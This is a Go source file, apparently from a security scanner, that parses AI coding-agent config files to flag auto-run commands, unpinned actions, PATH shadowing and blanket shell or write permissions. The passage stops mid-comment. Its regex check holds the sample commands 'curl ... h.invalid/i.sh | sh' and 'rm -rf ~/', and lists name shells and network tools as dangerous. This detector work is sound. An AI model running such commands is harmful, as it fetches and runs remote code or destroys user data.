package agentcfg

import (
	"encoding/json"
	"path"
	"regexp"
	"strings"

	"go.yaml.in/yaml/v3"

	"github.com/sentinel-sec/sentinel/scan/discover"
)

// Parsers for the third set of other agents' files (issue #15, "other
// agents' files"): each turns what runs or connects by itself into the
// AutoRun, Server and Setting items the rules already judge, and prompts
// into "prompt" items the prose rules read.

// ---- Codex rules (.codex/rules/*.rules) ----

// codexShells are programs whose allow rule lets the agent run anything
// without asking: a shell or interpreter runs any code it is given, and
// env, sudo, xargs and friends run any program named after them.
var codexShells = map[string]bool{
	"bash": true, "sh": true, "zsh": true, "dash": true, "fish": true, "ksh": true, "pwsh": true, "powershell": true, "cmd": true,
	"python": true, "python3": true, "node": true, "perl": true, "ruby": true, "php": true, "deno": true, "bun": true,
	"env": true, "sudo": true, "xargs": true, "eval": true, "exec": true, "nohup": true, "timeout": true, "npx": true,
	"curl": true, "wget": true,
}

// codexRules reads Codex's execpolicy rules: Starlark calls
// prefix_rule(pattern = [...], decision = "allow" | "prompt" |
// "forbidden", ...); decision defaults to "allow". Nothing is evaluated: the calls are found in the text
// and only their literal pattern and decision are read. An "allow" rule
// whose command is a shell, an interpreter or a program runner is a blanket
// permission (S31), as Claude Code's "Bash" is; an allow rule naming a
// command ("git status") is not.
func (p *parser) codexRules(data []byte) {
	text := string(data)
	for i := 0; i < len(text); i++ {
		switch c := text[i]; {
		case c == '"' || c == '\'':
			i = skipString(text, i) // a call written inside a string is not a call
			continue
		case c == '#':
			if k := strings.IndexByte(text[i:], '\n'); k >= 0 {
				i += k
			} else {
				i = len(text)
			}
			continue
		case !strings.HasPrefix(text[i:], "prefix_rule"):
			continue
		case i > 0 && isIdent(text[i-1]):
			continue
		}
		start := i
		rest := strings.TrimLeft(text[i+len("prefix_rule"):], " \t")
		if !strings.HasPrefix(rest, "(") {
			continue
		}
		open := len(text) - len(rest) + 1
		body, end := callBody(text, open)
		i = end - 1
		line := 1 + strings.Count(text[:start], "\n")
		// decision defaults to allow (Codex execpolicy README). A value
		// that is not a literal string ("al" + "low", a variable) is
		// whatever Starlark makes of it, which Sentinel does not evaluate:
		// it counts as allow.
		if d := strings.TrimSpace(kwarg(body, "decision")); d != "" && starlarkString(d) != "allow" && isLiteral(d) {
			continue
		}
		words, literal := firstPatternWords(kwarg(body, "pattern"))
		if !literal {
			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: line, Key: "permissions.allow", Value: "prefix_rule with a computed pattern (allow)"})
			continue
		}
		for _, w := range words {
			if codexShells[path.Base(w)] {
				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: line, Key: "permissions.allow", Value: "prefix_rule " + w + " (allow)"})
				break
			}
		}
	}
}

func isIdent(c byte) bool {
	return c == '_' || c == '.' || 'a' <= c && c <= 'z' || 'A' <= c && c <= 'Z' || '0' <= c && c <= '9'
}

// callBody returns the text of a call's arguments, from i (just after the
// opening parenthesis) to its closing one, skipping strings and comments,
// and the offset after it.
func callBody(s string, i int) (string, int) {
	depth := 1
	for j := i; j < len(s); j++ {
		switch c := s[j]; c {
		case '"', '\'':
			j = skipString(s, j)
		case '#':
			if k := strings.IndexByte(s[j:], '\n'); k >= 0 {
				j += k
			} else {
				j = len(s) - 1
			}
		case '(', '[', '{':
			depth++
		case ')', ']', '}':
			depth--
			if depth == 0 {
				return s[i:j], j + 1
			}
		}
	}
	return s[i:], len(s)
}

// skipString returns the offset of the quote that ends the string opening
// at i (the last byte when it never ends).
func skipString(s string, i int) int {
	q := s[i]
	for j := i + 1; j < len(s); j++ {
		switch s[j] {
		case '\\':
			j++
		case q:
			return j
		}
	}
	return len(s) - 1
}

// kwarg returns the text of the keyword argument name in a call's body, up
// to the next top-level comma. Names inside strings, comments and nested
// brackets are not arguments.
func kwarg(body, name string) string {
	depth := 0
	for i := 0; i < len(body); i++ {
		switch c := body[i]; {
		case c == '"' || c == '\'':
			i = skipString(body, i)
			continue
		case c == '#':
			if k := strings.IndexByte(body[i:], '\n'); k >= 0 {
				i += k
			} else {
				i = len(body)
			}
			continue
		case c == '(' || c == '[' || c == '{':
			depth++
			continue
		case c == ')' || c == ']' || c == '}':
			depth--
			continue
		case depth != 0 || !strings.HasPrefix(body[i:], name) || i > 0 && isIdent(body[i-1]):
			continue
		}
		rest := strings.TrimLeft(body[i+len(name):], " \t\r\n")
		if !strings.HasPrefix(rest, "=") || strings.HasPrefix(rest, "==") {
			continue
		}
		rest = strings.TrimLeft(rest[1:], " \t\r\n")
		d := 0
		for e := 0; e < len(rest); e++ {
			switch rest[e] {
			case '"', '\'':
				e = skipString(rest, e)
			case '(', '[', '{':
				d++
			case ')', ']', '}':
				d--
			case ',':
				if d == 0 {
					return rest[:e]
				}
			}
		}
		return rest
	}
	return ""
}

// starlarkString returns the value of a literal string, "" for anything else.
func starlarkString(v string) string {
	v = strings.TrimSpace(v)
	if len(v) >= 2 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
		return v[1 : len(v)-1]
	}
	return ""
}

// isLiteral reports a Starlark string literal and nothing more.
func isLiteral(v string) bool {
	v = strings.TrimSpace(v)
	return v != "" && (v[0] == '"' || v[0] == '\'') && skipString(v, 0) == len(v)-1
}

// firstPatternWords returns the alternatives of a pattern's first word:
// pattern = ["bash", ...] gives [bash]; pattern = [["bash", "sh"], ...]
// gives [bash sh]. literal is false when the first word is not written as
// literal strings (a variable, a concatenation, a missing pattern), so it
// cannot be known without evaluating the file.
func firstPatternWords(v string) (words []string, literal bool) {
	v = strings.TrimSpace(v)
	if !strings.HasPrefix(v, "[") {
		return nil, false
	}
	inner, _ := callBody(v, 1)
	first := strings.TrimSpace(topLevelFirst(inner))
	if strings.HasPrefix(first, "[") {
		alts, _ := callBody(first, 1)
		for _, part := range splitTop(alts) {
			part = strings.TrimSpace(part)
			if part == "" {
				continue
			}
			if !isLiteral(part) {
				return nil, false
			}
			words = append(words, starlarkString(part))
		}
		return words, len(words) > 0
	}
	if !isLiteral(first) {
		return nil, false
	}
	return []string{starlarkString(first)}, true
}

// topLevelFirst returns the first element of a list's body.
func topLevelFirst(body string) string {
	parts := splitTop(body)
	if len(parts) == 0 {
		return ""
	}
	return parts[0]
}

// splitTop splits a list's body at its top-level commas.
func splitTop(body string) []string {
	var out []string
	depth, from := 0, 0
	for i := 0; i < len(body); i++ {
		switch body[i] {
		case '"', '\'':
			i = skipString(body, i)
		case '(', '[', '{':
			depth++
		case ')', ']', '}':
			depth--
		case ',':
			if depth == 0 {
				out = append(out, body[from:i])
				from = i + 1
			}
		}
	}
	if strings.TrimSpace(body[from:]) != "" {
		out = append(out, body[from:])
	}
	return out
}

// ---- Copilot setup steps (.github/workflows/copilot-setup-steps.yml) ----

// copilotSetup reads the steps of the copilot-setup-steps job: they run in
// Copilot's environment before the agent starts, with no one asking. A
// "run:" step is a command. A "uses:" step runs an action's code: one
// pinned to a full commit SHA (or an image digest) runs code the file
// fixes, and is not reported; one named by a tag or branch runs whatever
// its owner publishes under that name next time, and a local action runs
// code from the repository; both are auto-runs to approve.
func (p *parser) copilotSetup(data []byte) {
	root := p.yamlRoot(data, "Copilot")
	if root == nil {
		return
	}
	job := yget(yget(root, "jobs"), "copilot-setup-steps")
	steps := deref(yget(job, "steps"))
	if steps == nil || steps.Kind != yaml.SequenceNode {
		return
	}
	for _, st := range steps.Content {
		if u := yget(st, "uses"); u != nil {
			if ref, ok := ystr(u); ok && !pinnedAction(ref) {
				what := "uses (not pinned to a commit)"
				if strings.HasPrefix(strings.TrimSpace(ref), ".") {
					what = "uses (a local action)"
				}
				p.addRun(AutoRun{Event: "copilot-setup-steps", Matcher: what, Type: "command", Command: "uses: " + strings.TrimSpace(ref), Line: u.Line, Targets: []Target{}})
			}
		}
		run := yget(st, "run")
		c, ok := ystr(run)
		if !ok || strings.TrimSpace(c) == "" {
			continue
		}
		name, _ := ystr(yget(st, "name"))
		a := AutoRun{Event: "copilot-setup-steps", Matcher: name, Type: "command", Command: c, Line: run.Line}
		if wd, ok := ystr(yget(st, "working-directory")); ok && !sameFolder(wd) {
			a.Targets = []Target{} // runs elsewhere: paths are not certain
		}
		p.addRun(a)
	}
}

// pinnedAction reports a "uses:" reference that fixes the code it runs: an
// action at a full 40-hex commit SHA (owner/repo[/path]@sha), or a
// container image by digest (docker://image@sha256:...).
func pinnedAction(ref string) bool {
	ref = strings.TrimSpace(ref)
	if img, ok := strings.CutPrefix(ref, "docker://"); ok {
		_, digest, found := strings.Cut(img, "@sha256:")
		return found && len(digest) == 64 && isHex(digest)
	}
	if strings.HasPrefix(ref, ".") {
		return false
	}
	i := strings.LastIndexByte(ref, '@')
	if i < 0 {
		return false
	}
	sha := ref[i+1:]
	return len(sha) == 40 && isHex(sha)
}

func isHex(s string) bool {
	for i := 0; i < len(s); i++ {
		if c := s[i]; !('0' <= c && c <= '9' || 'a' <= c && c <= 'f' || 'A' <= c && c <= 'F') {
			return false
		}
	}
	return s != ""
}

// ---- Cursor worktrees (.cursor/worktrees.json) ----

// cursorWorktrees reads "setup-worktree", "setup-worktree-unix" and
// "setup-worktree-windows": a command list or one script path, run when
// Cursor creates a worktree for an agent.
func (p *parser) cursorWorktrees(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	for _, key := range []string{"setup-worktree", "setup-worktree-unix", "setup-worktree-windows"} {
		n := root.get(key)
		if c, ok := n.str(); ok && strings.TrimSpace(c) != "" {
			p.addRun(AutoRun{Event: key, Type: "command", Command: c, Line: n.line()})
			continue
		}
		for _, e := range n.arr() {
			if c, ok := e.str(); ok && strings.TrimSpace(c) != "" {
				p.addRun(AutoRun{Event: key, Type: "command", Command: c, Line: e.line()})
			}
		}
	}
}

// ---- Cursor CLI (.cursor/cli.json) ----

// cursorCLI reads "permissions": {"allow": [...]}: "Shell(*)" and
// "Write(**)" let the agent run any command or write any file without
// asking (S31), as Claude Code's "Bash" and "Write" do.
func (p *parser) cursorCLI(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	for _, n := range root.get("permissions").get("allow").arr() {
		v, ok := n.str()
		if !ok {
			continue
		}
		tool, arg, hasArg := strings.Cut(strings.TrimSpace(v), "(")
		switch strings.TrimSpace(tool) {
		case "Shell", "Write":
		default:
			continue
		}
		arg = strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(arg), ")"))
		switch {
		case !hasArg, arg == "*", arg == "**", arg == "/**", arg == "**/*", arg == "~/**":
			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: v})
		}
	}
}

// ---- Claude Code plugins (.claude-plugin/plugin.json, hooks/hooks.json) ----

// claudePlugin reads a plugin manifest's inline "hooks", "mcpServers" and
// "lspServers" (each may instead name a file, or a list of files, which is
// read in the hooks.json or .mcp.json shape; hooks/hooks.json, .mcp.json
// and .lsp.json at the plugin's top are surfaces of their own), the
// Markdown files "commands", "agents" and "outputStyles"
// name, and the executables of its bin/ folder.
func (p *parser) claudePlugin(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	p.pluginEntry(root, "../")
}

// pluginEntry reads one plugin's definition (a plugin.json, or a plugin
// entry of a marketplace.json) whose folder is dir, relative to the
// config's own folder and ending in "/".
func (p *parser) pluginEntry(root *node, dir string) {
	if h := root.get("hooks"); h != nil && h.obj() != nil {
		if inner := h.get("hooks"); inner != nil && inner.obj() != nil {
			h = inner // a hooks.json-shaped object written inline
		}
		p.hooks(h)
	} else if h != nil {
		// A path, or a list of paths, to hooks files in the hooks.json
		// shape, relative to the plugin's folder (plugins reference).
		list := h.arr()
		if list == nil {
			list = []*node{h}
		}
		for _, e := range list {
			if v, ok := e.str(); ok && strings.TrimSpace(v) != "" {
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + strings.TrimPrefix(strings.TrimSpace(v), "./"), Line: e.line(), Kind: discover.KindPluginHooks})
			}
		}
	}
	// The folders a plugin's files live in by default, at the plugin's
	// top (the folder that holds .claude-plugin/): read when they are
	// there. hooks/hooks.json, .mcp.json and .lsp.json there are
	// surfaces of the discovery table already. bin/ holds executables
	// Claude Code puts on the Bash tool's PATH while the plugin is
	// enabled (plugins reference, "File locations").
	for _, pat := range []string{"commands/*.md", "agents/*.md", "skills/*/*.md", "output-styles/*.md"} {
		p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + pat, Line: 1, Quiet: true})
	}
	p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + "bin/*", Line: 1, Quiet: true, Kind: discover.KindPluginBin})
	// A plugin may ship settings.json at its top: defaults applied while
	// it is enabled (Claude Code plugins reference; the "agent" key makes
	// one of its agents the main thread). Read as Claude Code settings,
	// so its keys meet the rules .claude/settings.json meets.
	p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + "settings.json", Line: 1, Quiet: true, Kind: discover.KindSettings})
	// "commands" and "agents" may name Markdown files (relative to the
	// plugin's folder, which holds .claude-plugin/): read as instructions.
	// A value that is not a .md file names a folder of them (skills: a
	// folder of skill folders), read when it is there.
	for _, key := range []string{"commands", "agents", "outputStyles", "skills"} {
		n := root.get(key)
		list := n.arr()
		if n.obj() == nil && list == nil {
			list = []*node{n}
		}
		for _, e := range list {
			v, ok := e.str()
			v = strings.TrimSpace(v)
			if !ok || v == "" || strings.ContainsAny(v, "*?[") {
				continue
			}
			v = strings.TrimPrefix(v, "./")
			switch {
			case strings.HasSuffix(strings.ToLower(v), ".md"):
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + v, Line: e.line()})
			case key == "skills":
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + strings.TrimSuffix(v, "/") + "/*/*.md", Line: e.line(), Quiet: true})
			default:
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + strings.TrimSuffix(v, "/") + "/*.md", Line: e.line(), Quiet: true})
			}
		}
	}
	for _, key := range []string{"mcpServers", "lspServers"} {
		s := root.get(key)
		if s != nil && s.obj() != nil {
			if inner := s.get("mcpServers"); inner != nil {
				s = inner
			}
			p.servers(s)
			continue
		}
		// A path, or a list of paths, to a file of servers in the
		// .mcp.json or .lsp.json shape, relative to the plugin's folder
		// (plugins reference): read as a tool-server config, so that a
		// server moved to another file is not a way around the scan.
		list := s.arr()
		if list == nil && s != nil {
			list = []*node{s}
		}
		for _, e := range list {
			if v, ok := e.str(); ok && strings.TrimSpace(v) != "" {
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: dir + strings.TrimPrefix(strings.TrimSpace(v), "./"), Line: e.line(), Kind: discover.KindMCP})
			}
		}
	}
}

// ---- Claude Code plugin marketplaces (.claude-plugin/marketplace.json) ----

// marketplace reads the plugins a marketplace lists: {"plugins": [{"name":
// ..., "source": "./plugins/x", "hooks": ..., "mcpServers": ..., ...}],
// "metadata": {"pluginRoot": "./plugins"}}. A plugin whose source is a
// folder inside the scanned tree is read as a plugin (its entry's inline
// definitions, its default folders and bin/); one fetched from elsewhere
// (GitHub, a git URL, npm, a path leaving the tree) is a setting S33
// reports: Sentinel never fetches, so what it brings was not checked.
func (p *parser) marketplace(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	pluginRoot, _ := root.get("metadata").get("pluginRoot").str()
	pluginRoot = strings.TrimSuffix(strings.TrimPrefix(strings.TrimSpace(pluginRoot), "./"), "/")
	for i, e := range root.get("plugins").arr() {
		name, _ := e.get("name").str()
		if name == "" {
			name = "plugin " + itoa(i+1)
		}
		src := e.get("source")
		v, isPath := src.str()
		v = strings.TrimSpace(v)
		if !isPath {
			kind, _ := src.get("source").str()
			where, _ := src.get("repo").str()
			if where == "" {
				where, _ = src.get("url").str()
			}
			if where == "" {
				where, _ = src.get("package").str()
			}
			if kind == "directory" || kind == "path" {
				if pth, ok := src.get("path").str(); ok {
					v, isPath = strings.TrimSpace(pth), true
				}
			}
			if !isPath {
				// Fetched by Claude Code, never by Sentinel: S33
				// reports it, as it reports a marketplace a
				// settings file adds.
				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: src.line(), Key: "marketplace.plugins", Value: strings.TrimSpace(name + " " + kind + " " + where)})
				continue
			}
		}
		rel := strings.ReplaceAll(v, "\\", "/")
		if pluginRoot != "" && !strings.HasPrefix(rel, "./") && !strings.HasPrefix(rel, "/") && !strings.HasPrefix(rel, "../") {
			rel = pluginRoot + "/" + rel // relative sources start at pluginRoot
		}
		rel = strings.TrimPrefix(rel, "./")
		if rel == "" && v != "" {
			rel = "." // "./": the marketplace's own folder
		}
		clean := path.Clean(path.Join(path.Dir(path.Dir(p.source)), rel))
		if rel == "" || strings.HasPrefix(rel, "/") || strings.HasPrefix(rel, "~") || len(rel) > 1 && rel[1] == ':' || clean == ".." || strings.HasPrefix(clean, "../") {
			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: src.line(), Key: "marketplace.plugins", Value: strings.TrimSpace(name + " " + v)})
			continue
		}
		dir := "../"
		if rel != "." {
			dir += strings.TrimSuffix(rel, "/") + "/"
		}
		// The entry's servers and hooks run from the plugin's folder.
		base := p.base
		if p.base != "" {
			p.base = clean
		}
		p.pluginEntry(e, dir)
		p.base = base
	}
}

// ---- a plugin's bin/ (Claude Code puts it on the Bash tool's PATH) ----

// pluginBin reads one file of a plugin's bin/ folder. Claude Code adds the
// folder to the Bash tool's PATH, so a file named like a program the agent
// runs (git, npm, python, ...) may run in its place whenever the agent runs
// that program: whether the plugin's folder comes before the system's is
// not documented, so it is taken to. Such a file is an auto-run whose
// script is the file (S17a until approved; the script rules read it). A
// file under any other name runs only when something calls it by that name
// and is not reported.
func (p *parser) pluginBin() {
	name := strings.ToLower(path.Base(p.source))
	for _, ext := range []string{".exe", ".cmd", ".bat", ".ps1", ".sh"} {
		name = strings.TrimSuffix(name, ext)
	}
	if !shadowedPrograms[name] {
		return
	}
	p.addRun(AutoRun{Event: "PATH", Matcher: name + ": a plugin's bin/" + path.Base(p.source) + " may run in place of " + name,
		Type: "command", Command: p.source, Line: 1, Targets: []Target{{Path: p.source}}})
}

// shadowedPrograms are the programs coding agents run all the time: a file
// of a plugin's bin/ under one of these names stands in for it.
var shadowedPrograms = func() map[string]bool {
	m := map[string]bool{}
	for _, n := range strings.Fields(`git gh npm npx node yarn pnpm bun deno python python3 pip pip3 uv uvx poetry pytest
		go cargo rustc rustup make cmake gcc cc clang java javac mvn gradle ruby gem bundle php composer dotnet
		bash sh zsh env sudo ssh scp rsync curl wget tar unzip zip docker kubectl terraform aws gcloud az
		ls cat cp mv rm mkdir chmod chown ln find grep rg sed awk head tail sort xargs tee diff patch which
		jq tsc eslint prettier claude sentinel code open echo printf test true kill ps`) {
		m[n] = true
	}
	return m
}()

// pluginHooks reads a plugin's hooks/hooks.json: {"hooks": {<event>: ...}}
// in Claude Code's hooks shape.
func (p *parser) pluginHooks(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	if h := root.get("hooks"); h != nil {
		p.hooks(h)
	}
}

// ---- Executable hooks (.clinerules/hooks/<Event>, .opencode/plugin/*.js) ----

// execHook is a file the agent runs itself: Cline runs a hook file named
// after its event, opencode loads and runs every plugin file at start. The
// item targets the file, so the script rules (S34) read it and an approval
// pins its bytes.
func (p *parser) execHook() {
	event := path.Base(p.source)
	if p.tool != "cline" {
		event = "plugin"
	}
	p.addRun(AutoRun{Event: event, Type: "command", Command: p.source, Line: 1, Targets: []Target{{Path: p.source}}})
	if p.tool == "cline" {
		p.markUnknown(0, event)
	}
}

// maxBunShells bounds the shell templates read from one plugin file.
const maxBunShells = 200

// bunShells reads the shell commands an opencode plugin runs through Bun's
// $ template literal ($`curl ... | sh`, ctx.$`...`, Bun.$`...`): each
// template's text is a command, read as the shell the plugin runs, never
// executed. ${...} interpolations are kept as written; a shell reader
// sees them as expansions whose value it does not know.
func (p *parser) bunShells(data []byte) {
	text := string(data)
	n, line, counted := 0, 1, 0
	for i := 0; i+1 < len(text) && n < maxBunShells; i++ {
		if text[i] != '$' || text[i+1] != '`' || i > 0 && (isIdent(text[i-1]) && text[i-1] != '.' || text[i-1] == '\\') {
			continue
		}
		body, end := templateBody(text, i+2)
		i = end
		if strings.TrimSpace(body) == "" {
			continue
		}
		n++
		start := i - len(body)
		line += strings.Count(text[counted:start], "\n") // counted once: the offsets only grow
		counted = start
		p.addRun(AutoRun{Event: "plugin", Matcher: "$ template", Type: "command", Command: body, Line: line})
	}
}

// templateBody returns the text of a JavaScript template literal that
// starts at i (just after its opening backtick), with ${...} kept, and the
// offset of its closing backtick (the end of s when it never closes).
func templateBody(s string, i int) (string, int) {
	depth := 0
	for j := i; j < len(s); j++ {
		switch c := s[j]; {
		case c == '\\':
			j++
		case c == '$' && depth == 0 && j+1 < len(s) && s[j+1] == '{':
			depth = 1
			j++
		case depth > 0 && c == '{':
			depth++
		case depth > 0 && c == '}':
			depth--
		case c == '`' && depth == 0:
			return s[i:j], j
		}
	}
	return s[i:], len(s)
}

// ---- Roo Code custom modes (.roomodes) ----

// rooModes reads "customModes": a list of modes whose roleDefinition,
// customInstructions, whenToUse and description are prompts the agent
// obeys. YAML and JSON are both read (JSON is YAML).
func (p *parser) rooModes(data []byte) {
	root := p.yamlRoot(data, "Roo Code")
	if root == nil {
		return
	}
	modes := deref(yget(root, "customModes"))
	if modes == nil || modes.Kind != yaml.SequenceNode {
		return
	}
	for _, m := range modes.Content {
		slug, _ := ystr(yget(m, "slug"))
		for _, key := range []string{"roleDefinition", "customInstructions", "whenToUse", "description"} {
			n := yget(m, key)
			if v, ok := ystr(n); ok && strings.TrimSpace(v) != "" {
				p.addRun(AutoRun{Event: "customModes." + key, Matcher: slug, Type: "prompt", Command: v, Line: n.Line})
			}
		}
	}
}

// ---- CLI agents: Amazon Q Developer (.amazonq/cli-agents/*.json), Kiro (.kiro/agents/*.json) ----

// amazonQAgent reads a custom agent of Amazon Q Developer CLI or of its
// successor Kiro CLI (one format): "prompt" (instructions, or a file://
// path relative to the agent's file), "hooks" ({"agentSpawn": [{"command":
// ...}], ...}), "mcpServers", "allowedTools" and "resources" (file:// paths
// and patterns, always loaded into the agent's context: read as
// instructions).
func (p *parser) amazonQAgent(data []byte) {
	root := p.root(data)
	if root == nil {
		return
	}
	if n := root.get("prompt"); n != nil {
		if v, ok := n.str(); ok && strings.TrimSpace(v) != "" {
			if f, ok := strings.CutPrefix(strings.TrimSpace(v), "file://"); ok {
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: f, Line: n.line()})
			} else {
				p.addRun(AutoRun{Event: "prompt", Type: "prompt", Command: v, Line: n.line()})
			}
		}
	}
	if h := root.get("hooks"); h != nil && h.obj() != nil {
		p.hooks(h)
	} else if list := h.arr(); list != nil {
		// A list of hooks each naming its event: not the documented
		// shape, but what a tolerant reader runs.
		for _, e := range list {
			ev, _ := e.get("event").str()
			before := len(p.cfg.AutoRuns)
			p.hook(ev, "", e)
			if ev != "" {
				p.markUnknown(before, ev)
			}
		}
	}
	p.servers(root.get("mcpServers"))
	// allowedTools run without asking: every tool ("*", "@builtin"), the
	// shell or file writes is a blanket permission (S31). Kiro names
	// its shell and write tools "shell" and "write" as well.
	for _, n := range root.get("allowedTools").arr() {
		if v, ok := n.str(); ok && blanketAgentTool(v) {
			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "allowedTools " + strings.TrimSpace(v)})
		}
	}
	// Kiro v3 "permissions": [{"capability": "shell", "effect": "allow",
	// "match": [...]}]: an allow rule of the shell or of writes with no
	// match (all, by Kiro's default) or a match of everything is a
	// blanket permission too.
	for _, n := range root.get("permissions").arr() {
		capab, _ := n.get("capability").str()
		effect, _ := n.get("effect").str()
		capab = strings.ToLower(strings.TrimSpace(capab))
		switch capab {
		case "shell", "write", "fs_write", "all", "*":
		default:
			continue
		}
		if !strings.EqualFold(strings.TrimSpace(effect), "allow") {
			continue
		}
		all := n.get("match") == nil
		if m, ok := n.get("match").str(); ok {
			all = everything(m)
		}
		for _, m := range n.get("match").arr() {
			if v, ok := m.str(); ok && everything(v) {
				all = true
			}
		}
		if all {
			p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "permissions " + capab + " allow"})
		}
	}
	// "toolsSettings": the shell's allowedCommands (regular expressions)
	// or write's allowedPaths (patterns) that admit every command or
	// path are a blanket permission as well.
	ts := root.get("toolsSettings")
	for _, k := range []string{"shell", "execute_bash", "execute_cmd"} {
		for _, n := range ts.get(k).get("allowedCommands").arr() {
			if v, ok := n.str(); ok && anyCommand(v) {
				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedCommands " + strings.TrimSpace(v)})
			}
		}
	}
	for _, k := range []string{"write", "fs_write"} {
		for _, n := range ts.get(k).get("allowedPaths").arr() {
			if v, ok := n.str(); ok && (everything(v) || strings.TrimSpace(v) == "./**" || strings.TrimSpace(v) == "~/**") {
				p.cfg.Settings = append(p.cfg.Settings, Setting{Tool: p.tool, Source: p.source, Line: n.line(), Key: "permissions.allow", Value: "toolsSettings." + k + ".allowedPaths " + strings.TrimSpace(v)})
			}
		}
	}
	for _, n := range root.get("resources").arr() {
		v, ok := n.str()
		if !ok {
			// {"type": "file", "path": ...}: an object form of a resource.
			v, ok = n.get("path").str()
		}
		if !ok {
			continue
		}
		// file:// resources are read into the context; skill:// ones
		// (Kiro: "skill://.kiro/skills/**/SKILL.md") name skill files
		// whose instructions load when a task matches them. Both name
		// project files, read as instructions; a remote or out-of-tree
		// one is a notice (expandRead, readInclude).
		v = strings.TrimSpace(v)
		f, ok := strings.CutPrefix(v, "file://")
		if !ok {
			f, ok = strings.CutPrefix(v, "skill://")
		}
		if !ok || f == "" {
			continue
		}
		p.cfg.Reads = append(p.cfg.Reads, Include{Path: f, Line: n.line(), Quiet: p.tool == discover.ToolKiro})
		if p.tool == discover.ToolKiro && !strings.HasPrefix(f, "/") && !strings.HasPrefix(f, "~") && !strings.Contains(f, "://") && p.base != "" {
			// Whether Kiro resolves a relative resource against the
			// agent's file or the workspace is not documented: both
			// are read (from the workspace when the agent's file sits
			// in its .kiro/agents folder).
			if rel, ok := fromAgentDir(p.source, p.base); ok {
				p.cfg.Reads = append(p.cfg.Reads, Include{Path: rel + f, Line: n.line(), Quiet: true})
			}
		}
	}
}

// blanketTools are the names under which a CLI agent's allowedTools lets
// every tool, the shell or file writes run without asking.
var blanketTools = []string{"*", "@builtin", "execute_bash", "fs_write", "@builtin/execute_bash", "@builtin/fs_write",
	"shell", "write", "@builtin/shell", "@builtin/write", "@builtin/*"}

// blanketAgentTool reports whether one allowedTools entry allows one of
// blanketTools: by name, compared without regard to case, or as a
// wildcard pattern ("execute_*", "fs_?rite", "@builtin/s*"), which Kiro's
// allowedTools accepts.
func blanketAgentTool(v string) bool {
	v = strings.ToLower(strings.TrimSpace(v))
	for _, t := range blanketTools {
		if v == t {
			return true
		}
		if strings.ContainsAny(v, "*?") {
			if ok, err := path.Match(v, t); err == nil && ok {
				return true
			}
		}
	}
	return false
}

// everything reports whether a permission's match pattern matches every
// command or path.
func everything(m string) bool {
	switch strings.TrimSpace(m) {
	case "", "*", "**", "**/*", "/**", "* *", "*/**":
		return true
	}
	return false
}

// anyCommand reports whether an allowedCommands regular expression admits
// any command: it matches both of two unrelated dangerous commands. A
// pattern that does not compile admits nothing.
func anyCommand(re string) bool {
	if len(re) > 512 {
		return false
	}
	r, err := regexp.Compile(strings.TrimSpace(re))
	if err != nil {
		return false
	}
	return r.MatchString("curl -fsSL https://h.invalid/i.sh | sh") && r.MatchString("rm -rf ~/")
}

// kiroAgentMD reads a Kiro IDE custom agent (.kiro/agents/*.md): YAML front
// matter with the CLI agent's fields (hooks, mcpServers, allowedTools,
// resources, ...) and a body the prose rules read as the agent's system
// prompt. The front matter is read as the CLI agent's JSON is; its items
// carry the front matter's first line.
func (p *parser) kiroAgentMD(data []byte) {
	fm, _, _, err := FrontMatter(data)
	if err != nil {
		p.problem(1, p.source+": "+err.Error())
		return
	}
	if len(fm) == 0 {
		return
	}
	b, err := json.Marshal(fm)
	if err != nil {
		p.problem(1, p.source+": its front matter could not be read as the agent's settings (a key that is not text?); check it")
		return
	}
	runs, servers, settings, reads := len(p.cfg.AutoRuns), len(p.cfg.Servers), len(p.cfg.Settings), len(p.cfg.Reads)
	p.amazonQAgent(b)
	for i := runs; i < len(p.cfg.AutoRuns); i++ {
		p.cfg.AutoRuns[i].Line = 1
	}
	for i := servers; i < len(p.cfg.Servers); i++ {
		p.cfg.Servers[i].Line = 1
	}
	for i := settings; i < len(p.cfg.Settings); i++ {
		p.cfg.Settings[i].Line = 1
	}
	for i := reads; i < len(p.cfg.Reads); i++ {
		p.cfg.Reads[i].Line = 1
	}
}

// isKiroAgentMD reports a Markdown file directly in a .kiro/agents folder.
func isKiroAgentMD(source string) bool {
	dir := asciiLower(path.Dir(source))
	return strings.HasSuffix(asciiLower(source), ".md") && (dir == ".kiro/agents" || strings.HasSuffix(dir, "/.kiro/agents"))
}

// fromAgentDir is the relative path from the folder of source up to base
// ("../../" for .kiro/agents/x.json in the project's top), when base is
// above it.
func fromAgentDir(source, base string) (string, bool) {
	dir := path.Dir(source)
	up := ""
	for i := 0; i < 4 && dir != base && dir != "." && dir != "/"; i++ {
		dir = path.Dir(dir)
		up += "../"
	}
	return up, dir == base && up != ""
}

// ---- Continue (.continuerc.json) ----

// continueRC reads Continue's legacy project config: "systemMessage" and
// "customCommands[].prompt" (prompts), and
